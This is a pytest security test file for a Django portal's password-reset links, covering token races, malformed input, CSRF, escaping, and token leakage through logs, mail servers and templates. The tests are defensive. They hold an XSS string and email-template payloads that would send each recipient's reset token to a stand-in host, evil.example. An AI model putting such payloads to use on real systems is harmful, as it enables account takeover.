"""Attacks on links to choose a password with. Each asserts what should be: one that fails shows a defect."""

from __future__ import annotations

import contextlib
import io
import logging
import re
import threading
from datetime import timedelta
from typing import Any
from urllib.parse import parse_qs, urlsplit

import psycopg
import pytest
from django.core.management import CommandError, call_command
from django.db import OperationalError, connections
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from flags.models import TenantHome
from iam import at_login, password_links, throttles
from iam.models import Tenant, TenantSettings, User
from migration_portal.cutover import guard
from migration_portal.decommission import remaining as left
from migration_portal.notices import password_mail, plan, send, texts
from migration_portal.notices.models import Notice, Recipient, Unsubscribed
from migration_portal.refusal import Refusal
from tests import builders
from tests.cutover.moves import moved
from tests.iam.conftest import Api
from tests.iam.conftest import api as api
from tests.legacy_compat.conftest import make_tenant, make_user
from tests.notices.conftest import ENGLISH, sent
from tests.notices.conftest import console as console
from tests.notices.conftest import mail as mail
from tests.notices.smtp import Kept
from tests.world import World

PAGE, CHOSEN, OTHER = "/oauth/new-password", "a long and new passphrase", "one more lengthy sentence"
ODD = "{SHA}what-is-this"
LINKED = ENGLISH | {
    "kind": "maintenance",
    "subject": "Choose a password",
    "text": "Dear $name: $password_link",
    "html": '<a href="$password_link">Choose</a>',
}


@pytest.fixture
def ann(api: Api) -> User:
    return make_user(api.tenant, username="ann", hashed_password=ODD)


def client(**options: Any) -> Client:
    return Client(raise_request_exception=False, **options)


def choose(token: str, password: str = CHOSEN, **options: Any) -> Any:
    return client(**options).post(PAGE, {"token": token, "new_password": password, "again": password})


def token_in(made: Any) -> str:
    text = made.get_body(("plain",)).get_content()
    return parse_qs(urlsplit(re.search(r"https://\S+", text)[0]).query)["token"][0]  # type: ignore[index]


# --- the door: tokens


def test_two_posts_at_once_set_one_password(api: Api, ann: User) -> None:
    token, answers = password_links.token_of(ann), []
    barrier = threading.Barrier(6)

    def post(n: int) -> None:
        barrier.wait()
        answers.append((choose(token, f"{CHOSEN} number {n}").status_code, n))
        connections.close_all()

    threads = [threading.Thread(target=post, args=(n,)) for n in range(6)]
    [t.start() for t in threads]
    [t.join(60) for t in threads]
    assert sorted(status for status, _ in answers) == [200] + [410] * 5
    winner = next(n for status, n in answers if status == 200)
    assert api.login(ann, password=f"{CHOSEN} number {winner}").status_code == 200


def test_switching_an_account_on_again_revives_no_link(ann: User) -> None:
    """security.md: 'Switching an account on again revives nothing.'"""
    token = password_links.token_of(ann)
    User.objects.filter(pk=ann.pk).update(is_active=False)
    assert choose(token).status_code == 410
    User.objects.filter(pk=ann.pk).update(is_active=True)
    assert choose(token).status_code == 410


def test_a_link_ends_when_the_address_it_went_to_is_no_longer_the_users(ann: User) -> None:
    token = password_links.token_of(ann)
    User.objects.filter(pk=ann.pk).update(email="corrected@example.org")
    assert choose(token).status_code == 410


def test_a_link_ends_when_its_owner_signs_in_with_the_password_they_know(api: Api) -> None:
    user = make_user(api.tenant)
    token = password_links.token_of(user)
    assert api.login(user).status_code == 200
    assert choose(token).status_code == 410


def test_a_user_removed_while_the_form_is_posted_is_a_dead_link(world: World, ann: User) -> None:
    token, answers = password_links.token_of(ann), []

    def post() -> None:
        answers.append(choose(token).status_code)
        connections.close_all()

    with psycopg.connect(world.url("iam")) as other:
        other.execute("DELETE FROM users WHERE id = %s", [ann.pk])
        thread = threading.Thread(target=post)
        thread.start()
        thread.join(1.5)
        assert thread.is_alive()
        other.commit()
    thread.join(30)
    assert answers == [410]


def test_a_user_switched_off_while_the_form_is_posted_is_a_dead_link(world: World, ann: User) -> None:
    token, answers = password_links.token_of(ann), []

    def post() -> None:
        answers.append(choose(token).status_code)
        connections.close_all()

    with psycopg.connect(world.url("iam")) as other:
        other.execute("UPDATE users SET is_active = false WHERE id = %s", [ann.pk])
        thread = threading.Thread(target=post)
        thread.start()
        thread.join(1.5)
        other.commit()
    thread.join(30)
    assert answers == [410]


@pytest.mark.parametrize("token", ["\0", "a\0:b:c", "x" * 1_000_000, "\u202e:\u202e:x", ":::", "." * 50, ".a:b:c"])
def test_odd_tokens_are_dead(ann: User, token: str) -> None:
    assert client().get(PAGE, {"token": token}).status_code in (410, 400)
    assert choose(token).status_code in (410, 400)


@pytest.mark.parametrize("password", ["\0" * 20, "p" * 5000, "é" * 500, "😀" * 200, "a\0" * 9, "x" * 1_000_000])
def test_odd_passwords_are_no_500(ann: User, password: str) -> None:
    assert choose(password_links.token_of(ann), password).status_code in (200, 400, 422)


@pytest.mark.parametrize(
    "charset", ["unicode_escape", "raw_unicode_escape", "utf-7", "idna", "punycode", "rot13", "hex"]
)
@pytest.mark.parametrize("path", [PAGE])
def test_a_token_in_an_odd_encoding_is_no_500(ann: User, charset: str, path: str) -> None:
    answer = client().generic("GET", path + "?token=%5Cud800:a:b", content_type=f"text/plain; charset={charset}")
    assert answer.status_code < 500


@pytest.mark.parametrize("field", ["token", "new_password"])
def test_half_a_surrogate_pair_in_a_form_is_no_500(ann: User, field: str) -> None:
    values = {"token": password_links.token_of(ann), "new_password": CHOSEN, "again": CHOSEN}
    values[field] = values[field] + "\\ud800"
    if field == "new_password":
        values["again"] = values[field]
    body = (
        "".join(f'--x\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n' for k, v in values.items())
        + "--x--\r\n"
    )
    answer = client().generic(
        "POST", PAGE, body, content_type="multipart/form-data; boundary=x; charset=unicode_escape"
    )
    assert answer.status_code < 500


@pytest.mark.parametrize("method", ["PUT", "DELETE", "PATCH", "OPTIONS"])
def test_other_methods_change_nothing(ann: User, method: str) -> None:
    answer = client().generic(method, f"{PAGE}?token={password_links.token_of(ann)}")
    assert answer.status_code == 405


def test_head_is_answered_as_get(ann: User) -> None:
    assert client().head(PAGE, {"token": password_links.token_of(ann)}).status_code == 200


def test_csrf(ann: User) -> None:
    token, browser = password_links.token_of(ann), Client(enforce_csrf_checks=True)
    form = {"token": token, "new_password": CHOSEN, "again": CHOSEN}
    assert browser.post(PAGE, form).status_code == 403
    shown = browser.get(PAGE, {"token": token}).content.decode()
    csrf = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', shown)[1]  # type: ignore[index]
    assert browser.post(PAGE, form | {"csrfmiddlewaretoken": csrf}).status_code == 200


# --- the door: states


def test_the_iam_away_is_a_503_that_says_so(ann: User, monkeypatch: pytest.MonkeyPatch) -> None:
    def away(*_: Any, **__: Any) -> Any:
        raise OperationalError("away")

    token = password_links.token_of(ann)
    monkeypatch.setattr(password_links, "user_of", away)
    for answer in (client().get(PAGE, {"token": token}), choose(token)):
        assert answer.status_code == 503


def test_redis_away_keeps_nobody_from_a_new_password(ann: User, settings: Any) -> None:
    settings.AUTH_CALLS_A_MINUTE, settings.REDIS_URL = 5, "redis://127.0.0.1:1/0"
    token = password_links.token_of(ann)
    assert choose("nonsense").status_code == 410
    assert choose(token).status_code == 200


def test_redis_away_reads_go_on(ann: User, settings: Any) -> None:
    """security.md: by THROTTLES_WITHOUT_REDIS (default: reads) reads go on and writes wait."""
    settings.AUTH_CALLS_A_MINUTE, settings.REDIS_URL = 5, "redis://127.0.0.1:1/0"
    assert client().get(PAGE, {"token": password_links.token_of(ann)}).status_code == 200


def test_a_tenant_that_was_reversed_while_the_form_is_open(world: World, acme: str, settings: Any) -> None:
    settings.AUTH_CALLS_A_MINUTE = 0
    guard.switch(on=True, by="tester")
    assert moved(acme).state == "done"
    user = User.objects.get(tenant_id=acme)
    token = password_links.token_of(user)
    assert client().get(PAGE, {"token": token}).status_code == 200
    assert moved(acme, "legacy").state == "done"
    assert choose(token).status_code == 409
    settings.LEGACY_SERVED_BY = "iam"  # the kill switch, with the guard still on
    assert choose(token).status_code == 503  # the guard refuses it: said in words


def test_a_reset_survives_the_way_back_to_legacy(world: World, acme: str, settings: Any) -> None:
    settings.AUTH_CALLS_A_MINUTE = 0
    guard.switch(on=True, by="tester")
    moved(acme)
    user = User.objects.get(tenant_id=acme)
    assert choose(password_links.token_of(user)).status_code == 200
    assert moved(acme, "legacy").state == "done"
    user.refresh_from_db()
    with world.legacy() as legacy:
        assert (
            legacy.execute("SELECT hashed_password FROM users WHERE id = %s", [str(user.pk)]).fetchone()[0]
            == user.hashed_password
        )


# --- the door: people


def test_somebody_without_a_user_name_is_not_called_none(api: Api) -> None:
    user = make_user(api.tenant, username=None, hashed_password=ODD)
    shown = client().get(PAGE, {"token": password_links.token_of(user)}).content.decode()
    assert 'value="None"' not in shown and str(user.email) in shown


def test_html_is_escaped(api: Api) -> None:
    Tenant.objects.filter(pk=api.tenant.pk).update(name="<script>alert(1)</script>")
    user = make_user(api.tenant, username='"><script>x', hashed_password=ODD)
    shown = client().get(PAGE, {"token": password_links.token_of(user)}).content.decode()
    assert "<script>" not in shown


def test_sessions_end(api: Api) -> None:
    user = make_user(api.tenant)
    signed_in = api.login(user).json()
    user.refresh_from_db()
    assert choose(password_links.token_of(user)).status_code == 200
    assert api.call("GET", "/me", signed_in["access_token"]).status_code == 401
    assert api.call("POST", "/auth/refresh", "", refresh_token=signed_in["refresh_token"]).status_code == 401


def test_who_was_locked_out_by_wrong_passwords_can_sign_in_with_the_new_one(api: Api, ann: User) -> None:
    for _ in range(throttles.FAILURES):
        api.login(ann, password="what I remember")
    assert choose(password_links.token_of(ann)).status_code == 200
    assert api.login(ann, password=CHOSEN).status_code == 200


def test_an_expired_password_is_not_chosen_again(api: Api) -> None:
    """The sign-in door refuses it: 'The new password is the old one.'"""
    user = make_user(api.tenant)
    password_links.use(password_links.token_of(user), CHOSEN)
    User.objects.filter(pk=user.pk).update(password_expires_at=timezone.now() - timedelta(days=1))
    assert api.login(user, password=CHOSEN, new_password=CHOSEN).status_code == 422
    user.refresh_from_db()
    assert choose(password_links.token_of(user), CHOSEN).status_code == 422


def test_a_user_who_misspells_thrice_is_not_throttled_in_production_settings(
    api: Api, ann: User, settings: Any
) -> None:
    settings.AUTH_CALLS_A_MINUTE = 5  # the default
    token, browser = password_links.token_of(ann), client()
    assert browser.get(PAGE, {"token": token}).status_code == 200
    for _ in range(3):
        assert browser.post(PAGE, {"token": token, "new_password": "short", "again": "short"}).status_code == 422
    assert browser.post(PAGE, {"token": token, "new_password": CHOSEN, "again": CHOSEN}).status_code == 200
    assert api.login(ann, password=CHOSEN).status_code == 200


def test_a_scanner_that_opens_links_locks_no_office_out(api: Api, settings: Any) -> None:
    settings.AUTH_CALLS_A_MINUTE = 5
    users = [make_user(api.tenant, hashed_password=ODD) for _ in range(6)]
    assert [client().get(PAGE, {"token": password_links.token_of(user)}).status_code for user in users] == [200] * 6


def test_a_second_factor_is_still_asked_for(api: Api, ann: User) -> None:
    TenantSettings.objects.create(tenant=api.tenant, mfa_required=True)
    assert choose(password_links.token_of(ann)).status_code == 200
    answer = api.login(ann, password=CHOSEN)
    assert answer.status_code in (200, 401)
    if answer.status_code == 200:
        assert api.call("PATCH", "/me", answer.json()["access_token"], bio="x").status_code == 401


def test_a_sign_in_asked_of_legacy_meanwhile_overwrites_nothing(
    api: Api, ann: User, settings: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    token = password_links.token_of(ann)

    def knows(user: User, password: str) -> bool:
        if password == "the old one":
            password_links.use(token, CHOSEN)  # while legacy thinks
            return True
        return False

    monkeypatch.setattr(at_login, "knows", knows)
    assert api.login(ann, password="the old one").status_code == 401
    monkeypatch.undo()
    settings.AUTH_CALLS_A_MINUTE = 0
    assert User.objects.get(pk=ann.pk).has_password(CHOSEN)


# --- secrets elsewhere


def test_no_log_holds_a_token(ann: User) -> None:
    token, stream = password_links.token_of(ann), io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(logging.getLogger().handlers[0].formatter if logging.getLogger().handlers else None)
    logging.getLogger().addHandler(handler)
    try:
        client().get(PAGE, {"token": token})
        choose(token, "short")
        Client(enforce_csrf_checks=True).post(f"{PAGE}?token={token}", {})
        choose(token)
        choose(token)
    finally:
        logging.getLogger().removeHandler(handler)
    assert "new-password" in stream.getvalue()
    assert token not in stream.getvalue() and token[:30] not in stream.getvalue()


@pytest.mark.parametrize("group", ["viewer", "operator"])
def test_no_operator_reads_live_links_of_others(
    world: World, api: Api, ann: User, settings: Any, tmp_path: Any, group: str
) -> None:
    """security.md: 'mailed to the user's own address', kept 'nowhere'."""
    settings.PUBLIC_URL = "https://portal.example.org"
    settings.EMAIL_BACKEND, settings.EMAIL_FILE_PATH = "django.core.mail.backends.filebased.EmailBackend", str(tmp_path)
    texts.save("reset", "en", by="otto", **LINKED)
    sent({"passwords": "legacy"}, "reset")
    builders.member(group, username="vera")
    browser = client()
    browser.login(username="vera", password="secret-pass-1")
    page = browser.get(reverse("notice_files"))
    assert page.status_code in (200, 403)
    if page.status_code == 403:
        return
    shown = page.content.decode()
    found = re.search(r"new-password\?token=([^\s&<\"]+)", shown)
    if found is None:
        return
    taken = choose(parse_qs(f"token={found[1]}")["token"][0]).status_code
    assert taken != 200, f"a {group} took the account over"


def test_what_a_server_says_of_a_message_shows_no_link(
    mail: Kept, api: Api, ann: User, monkeypatch: pytest.MonkeyPatch, console: Client
) -> None:
    async def data(server: Any, session: Any, envelope: Any) -> str:
        url = re.search(rb"https://\S+token=\S+", envelope.content.replace(b"=\r\n", b"").replace(b"=3D", b"="))
        return f"554 5.7.1 Blocked link: {url[0].decode()}"  # type: ignore[index]

    monkeypatch.setattr(type(mail), "handle_DATA", lambda self, *a: data(*a))
    texts.save("reset", "en", by="otto", **LINKED)
    notice = sent({"passwords": "legacy"}, "reset")
    kept = Recipient.objects.get(notice=notice).error
    shown = console.get(f"/admin/notices/{notice.pk}/").content.decode()
    assert "token=…" in kept and not re.search(r"token=\w", kept + shown), kept


# --- sending


def planned(who: dict[str, Any] | None = None, template: str = "reset") -> Notice:
    made = plan.plan("Reset", template, who or {}, by="otto")
    send.expand(made)
    return made


def test_a_link_goes_to_the_address_that_the_user_has_now(mail: Kept, api: Api, ann: User) -> None:
    texts.save("reset", "en", by="otto", **LINKED)
    planned({"passwords": "legacy"})
    old = ann.email
    User.objects.filter(pk=ann.pk).update(email="corrected@example.org")
    send.work()
    assert old not in mail.recipients or choose(token_in(mail.messages[0][1])).status_code != 200


def test_the_same_after_a_pause_of_weeks(mail: Kept, api: Api, ann: User) -> None:
    texts.save("reset", "en", by="otto", **LINKED)
    notice = planned({"passwords": "legacy"})
    plan.move(notice, "paused", by="otto")
    User.objects.filter(pk=ann.pk).update(email="corrected@example.org")
    plan.move(notice, "sending", by="otto")
    send.work()
    assert mail.recipients != [ann.email]


def test_who_signed_in_meanwhile_is_mailed_no_link_of_the_legacy_audience(mail: Kept, api: Api, ann: User) -> None:
    texts.save("reset", "en", by="otto", **LINKED)
    planned({"passwords": "legacy"})
    ann.set_password(OTHER)  # what migration at login does
    ann.save()
    send.work()
    assert mail.messages == []


def test_who_was_switched_off_meanwhile_is_mailed_no_link(mail: Kept, api: Api, ann: User) -> None:
    texts.save("reset", "en", by="otto", **LINKED)
    planned({"passwords": "legacy"})
    User.objects.filter(pk=ann.pk).update(is_active=False)
    send.work()
    assert mail.messages == []


def test_a_message_that_is_sent_once_more_is_good_for_no_second_password(mail: Kept, api: Api, ann: User) -> None:
    """notices.md: 'good for one password'."""
    texts.save("reset", "en", by="otto", **LINKED)
    notice = planned({"passwords": "legacy"})
    pk = send._candidates(notice)[0]
    assert send._claim(pk)
    to = Recipient.objects.get(pk=pk)  # the worker sends, and dies before it marks it
    send.message(to, texts.of("reset"), "Acme", password_mail.url_of(User.objects.get(pk=to.user)))
    first = parse_qs(urlsplit(password_mail.url_of(User.objects.get(pk=to.user))).query)["token"][0]
    assert choose(first).status_code == 200
    Recipient.objects.update(claimed_at=timezone.now() - timedelta(seconds=9))
    send.work()
    assert mail.messages == [] or choose(token_in(mail.messages[0][1]), OTHER).status_code == 410


def test_the_iam_away_keeps_no_other_notice_and_marks_nobody_twice(
    mail: Kept, api: Api, ann: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    """notices.md: 'What keeps one notice from being sent is shown with it, and keeps no other'."""
    texts.save("reset", "en", by="otto", **LINKED)
    notice = planned({"passwords": "legacy"})
    real = password_mail.url_of

    def away(user: Any) -> str:
        raise OperationalError("away")

    monkeypatch.setattr(password_mail, "url_of", away)
    problem = None
    try:
        send.work()
    except OperationalError as error:
        problem = error
    monkeypatch.setattr(password_mail, "url_of", real)
    Recipient.objects.update(next_at=timezone.now())  # half a minute later
    send.work()
    twice = plan.counts(notice)["perhaps_twice"]
    assert (problem, twice, len(mail.messages)) == (None, 0, 1)


def test_a_template_that_gets_a_link_later_is_not_shown_in_the_applications(mail: Kept, api: Api) -> None:
    plan.plan("Shown", "moving", {}, by="otto", in_app=True)
    try:
        texts.save("moving", "en", by="otto", **LINKED)
    except Refusal:
        return
    send.work()
    items = api.call("GET", "/notices").json()["items"]
    assert not any("$password_link" in each["body"] or "token=" in each["body"] for each in items), items


def test_a_link_in_one_language_only(mail: Kept, api: Api) -> None:
    texts.save("reset", "en", by="otto", **ENGLISH)
    texts.save("reset", "de", by="otto", **LINKED)
    with pytest.raises(Refusal):
        plan.plan("x", "reset", {}, by="otto", in_app=True)
    make_user(api.tenant, preferred_language="de", hashed_password=ODD)
    make_user(api.tenant, preferred_language="en", hashed_password=ODD)
    sent({"passwords": "legacy"}, "reset")
    bodies = [made.get_body(("plain",)).get_content() for _, made in mail.messages]
    assert sum("token=" in body for body in bodies) == 1


@pytest.mark.parametrize("written", ["${password_link}", "$PASSWORD_LINK", "$Password_Link"])
def test_other_ways_to_write_it(mail: Kept, api: Api, written: str) -> None:
    for part in ("subject", "text"):
        try:
            texts.save("reset", "en", by="otto", **(ENGLISH | {part: f"x {written}"}))
        except Refusal:
            continue
        assert part == "text"
        with pytest.raises(Refusal):
            plan.plan("x", "reset", {}, by="otto", in_app=True)


def test_who_unsubscribed_from_announcements_still_gets_their_link(mail: Kept, api: Api, ann: User) -> None:
    """notices.md: 'what is about their own account still comes'."""
    Unsubscribed.objects.create(email=str(ann.email).lower())
    try:
        texts.save("reset", "en", by="otto", **LINKED)  # an announcement
        sent({"passwords": "legacy"}, "reset")
    except Refusal:
        return
    assert mail.recipients == [ann.email]


@pytest.mark.parametrize("public", ["https://x.example.org/portal", "https://x.example.org"])
def test_public_url_with_a_path(mail: Kept, api: Api, ann: User, settings: Any, public: str) -> None:
    settings.PUBLIC_URL = public
    assert password_mail.url_of(ann).startswith(f"{public}/oauth/new-password?token=")


def test_notify_at_the_terminal(mail: Kept, api: Api, ann: User) -> None:
    texts.save("reset", "en", by="otto", **LINKED)
    with pytest.raises(CommandError):
        call_command("portal", "notify", "N", "--template", "reset", "--in-app", stdout=io.StringIO())
    out = io.StringIO()
    call_command("portal", "notify", "T", "--template", "reset", "--test", "otto@example.org", stdout=out)
    assert "token=" not in out.getvalue()


def test_decommission_says_whom_no_link_can_reach(world: World, api: Api) -> None:
    make_user(api.tenant, email="", hashed_password=ODD)
    gone = make_tenant(name="Gone", is_active=False)
    make_user(gone, hashed_password=ODD)
    [item] = left._passwords()
    from migration_portal.notices import audience

    reachable = audience.size({"passwords": "legacy"})
    assert item.count == reachable or "address" in item.todo, (item.count, reachable, item.todo)


def test_a_link_while_the_tenant_is_still_in_legacy_is_not_mailed(mail: Kept, api: Api, ann: User) -> None:
    TenantHome.objects.filter(tenant=str(api.tenant.pk)).update(home="legacy")
    texts.save("reset", "en", by="otto", **LINKED)
    try:
        sent({"passwords": "legacy"}, "reset")
    except Refusal:
        return
    assert mail.messages == [] or client().get(PAGE, {"token": token_in(mail.messages[0][1])}).status_code == 200


def test_a_subject_that_would_be_cut_is_refused(mail: Kept, api: Api) -> None:
    with pytest.raises(Refusal, match="more than 200 characters"):
        texts.save("cut", "en", by="otto", **(ENGLISH | {"subject": "x" * 195 + " $tenant"}))


def test_users_without_any_password_by_intent_are_mailed_none(mail: Kept, api: Api) -> None:
    make_user(api.tenant, hashed_password="!", sso_provider="okta", sso_id="1")
    texts.save("reset", "en", by="otto", **LINKED)
    sent({"passwords": "legacy"}, "reset")
    assert mail.messages == []


def test_planning_is_refused_while_no_link_can_be_made(mail: Kept, api: Api, ann: User, settings: Any) -> None:
    """Else every recipient is given up as bounced at once, and setting PUBLIC_URL brings none of them back."""
    texts.save("reset", "en", by="otto", **LINKED)
    settings.PUBLIC_URL = ""
    with pytest.raises(Refusal):
        plan.plan("x", "reset", {"passwords": "legacy"}, by="otto")


def test_sign_in_with_half_a_surrogate_pair_in_the_new_password_for_comparison(api: Api) -> None:
    user = make_user(api.tenant, require_password_change=True)
    values = {"username": str(user.username), "password": "correct horse", "new_password": CHOSEN + "\\ud800"}
    body = (
        "".join(f'--x\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n' for k, v in values.items())
        + "--x--\r\n"
    )
    answer = client().generic(
        "POST", "/oauth/sign-in", body, content_type="multipart/form-data; boundary=x; charset=unicode_escape"
    )
    assert answer.status_code < 500


def test_a_tenant_without_a_name_is_not_called_none(api: Api, ann: User) -> None:
    Tenant.objects.filter(pk=api.tenant.pk).update(name=None)
    assert "At None" not in client().get(PAGE, {"token": password_links.token_of(ann)}).content.decode()


def test_who_knows_their_password_is_mailed_no_link(mail: Kept, api: Api) -> None:
    """notices.md: the link is 'for those whose password legacy alone can check'."""
    texts.save("reset", "en", by="otto", **LINKED)
    try:
        sent({}, "reset")
    except Refusal:
        return
    assert mail.messages == []


def test_a_template_that_gets_a_link_while_it_is_sent_to_all(mail: Kept, api: Api) -> None:
    """What an approver planned without links goes out with them."""
    notice = plan.plan("x", "moving", {}, by="otto")
    send.expand(notice)
    try:
        texts.save("moving", "en", by="mallory", **LINKED)
    except Refusal:
        return
    send.work()
    assert not any("token=" in made.get_body(("plain",)).get_content() for _, made in mail.messages)


def test_after_a_lock_by_an_administrator_the_page_promises_nothing(api: Api, ann: User) -> None:
    User.objects.filter(pk=ann.pk).update(account_locked_until=timezone.now() + timedelta(days=1))
    token = password_links.token_of(ann)
    assert choose(token).status_code != 200 or api.login(ann, password=CHOSEN).status_code == 200


@pytest.mark.parametrize(
    "html",
    ['<img src="https://evil.example/?$password_link">', '<a href="https://evil.example/?u=$password_link">x</a>'],
)
def test_a_template_sends_no_link_to_another_site(mail: Kept, api: Api, ann: User, html: str) -> None:
    """Who may write templates (an operator) would be told each recipient's link by their mail program."""
    try:
        texts.save("reset", "en", by="mallory", **(LINKED | {"html": html}))
    except Refusal:
        return
    sent({"passwords": "legacy"}, "reset")
    body = mail.messages[0][1].get_body(("html",)).get_content()
    found = re.search(r"evil\.example/\?(?:u=)?https://portal\.example\.org/oauth/new-password\?token=([^\"]+)", body)
    assert found is None or choose(parse_qs("token=" + found[1])["token"][0]).status_code != 200


def test_opening_the_form_waits_for_no_move(api: Api, ann: User) -> None:
    """A GET writes nothing."""
    import time

    TenantHome.objects.filter(tenant=str(api.tenant.pk)).update(held_until=timezone.now() + timedelta(seconds=4))
    began = time.monotonic()
    client().get(PAGE, {"token": password_links.token_of(ann)})
    assert time.monotonic() - began < 2


def test_a_second_notice_goes_out_while_the_iam_fails_the_first(
    mail: Kept, api: Api, ann: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    """notices.md: what keeps one notice from being sent 'is shown with it, and keeps no other'."""
    texts.save("reset", "en", by="otto", **LINKED)
    first = planned({"passwords": "legacy"})
    second = plan.plan("Second", "moving", {"tenants": [str(api.tenant.pk)]}, by="otto")
    send.expand(second)

    def away(user: Any) -> str:
        raise OperationalError("away")

    monkeypatch.setattr(password_mail, "url_of", away)
    with contextlib.suppress(OperationalError):
        send.work()
    first.refresh_from_db()
    assert "away" in first.error and len(mail.messages) == 2


def test_a_lost_answer_after_the_iam_was_away_is_tried_once_more(
    mail: Kept, api: Api, ann: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    """notices.md: 'where the server took the message and its answer was lost, it is sent once more'."""
    import smtplib

    from django.core.mail.backends.smtp import EmailBackend

    texts.save("reset", "en", by="otto", **LINKED)
    planned({"passwords": "legacy"})
    real = password_mail.url_of

    def away(user: Any) -> str:
        raise OperationalError("away")

    monkeypatch.setattr(password_mail, "url_of", away)
    with contextlib.suppress(OperationalError):
        send.work()
    monkeypatch.setattr(password_mail, "url_of", real)
    Recipient.objects.update(next_at=timezone.now())

    def lost(self: Any, messages: Any) -> int:
        raise smtplib.SMTPServerDisconnected("lost")

    monkeypatch.setattr(EmailBackend, "send_messages", lost)
    send.work()
    assert Recipient.objects.get().state == "waiting"


def test_browser_sessions_end(api: Api) -> None:
    user = make_user(api.tenant)
    browser = client()
    assert browser.post("/oauth/sign-in", {"username": user.username, "password": "correct horse"}).status_code == 302
    assert browser.get("/oauth/welcome").status_code == 200
    user.refresh_from_db()
    assert choose(password_links.token_of(user)).status_code == 200
    assert browser.get("/oauth/welcome").status_code == 302


def test_the_files_that_hold_links_are_for_their_owner_alone(
    mail: Kept, api: Api, ann: User, settings: Any, tmp_path: Any
) -> None:
    settings.EMAIL_BACKEND, settings.EMAIL_FILE_PATH = (
        "django.core.mail.backends.filebased.EmailBackend",
        str(tmp_path / "mail"),
    )
    texts.save("reset", "en", by="otto", **LINKED)
    sent({"passwords": "legacy"}, "reset")
    files = list((tmp_path / "mail").glob("*.log"))
    assert files and not any(f.stat().st_mode & 0o077 and f.parent.stat().st_mode & 0o077 for f in files)
